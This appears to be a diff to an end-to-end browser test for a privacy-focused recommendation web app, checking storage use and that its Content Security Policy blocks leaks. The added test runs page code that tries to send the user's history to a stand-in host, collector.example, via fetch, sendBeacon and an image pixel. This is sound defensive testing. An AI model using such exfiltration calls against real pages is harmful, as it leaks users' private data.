@@ -294,6 +294,8 @@ describe('the app on the CPU fallback', { timeout: 900_000 }, () => {
     const context = await browser.newContext({ acceptDownloads: true });
     const requests = [];
     context.on('request', (r) => requests.push({ method: r.method(), url: r.url(), body: r.postData() }));
+    const failures = new Map();
+    context.on('requestfailed', (r) => failures.set(r.url(), r.failure()?.errorText));
     const { page } = await openApp(browser, { context });
     await likeFromSearch(page, 'gundam', 3);
     await page.fill('#taste', 'space pirates');
@@ -315,6 +317,28 @@ describe('the app on the CPU fallback', { timeout: 900_000 }, () => {
     const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
     assert.match(csp, /default-src 'self'/);
     assert.match(csp, /connect-src 'self'/);
+
+    // Nothing is stored outside IndexedDB and the Cache API: no cookies, no web storage.
+    assert.deepEqual(await context.cookies(), []);
+    assert.deepEqual(await page.evaluate(() => [localStorage.length, sessionStorage.length]), [0, 0]);
+
+    // Even code running in the page could not send the history out: the CSP blocks every way.
+    const before = requests.length;
+    const blocked = await page.evaluate(async () => {
+      const violations = [];
+      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+      const history = JSON.stringify(window.localrec.profile.history);
+      await fetch(`https://collector.example/?h=${history}`).catch(() => {});
+      navigator.sendBeacon?.('https://collector.example/', history);
+      const image = new Image();
+      image.src = `https://collector.example/pixel?h=${history}`;
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      return violations;
+    });
+    assert.ok(['connect-src', 'img-src'].every((d) => blocked.some((v) => v.startsWith(d))), `blocked: ${blocked}`);
+    // Chromium reports the blocked image as a request that failed before the network.
+    const outsideAfter = requests.slice(before).filter((r) => !r.url.startsWith(origin));
+    assert.deepEqual(outsideAfter.map((r) => failures.get(r.url)), outsideAfter.map(() => 'csp'), 'blocked by the CSP, before the network');
 
     // Offline: the service worker and the model cache carry the next visit.
     const liked = await history(page);
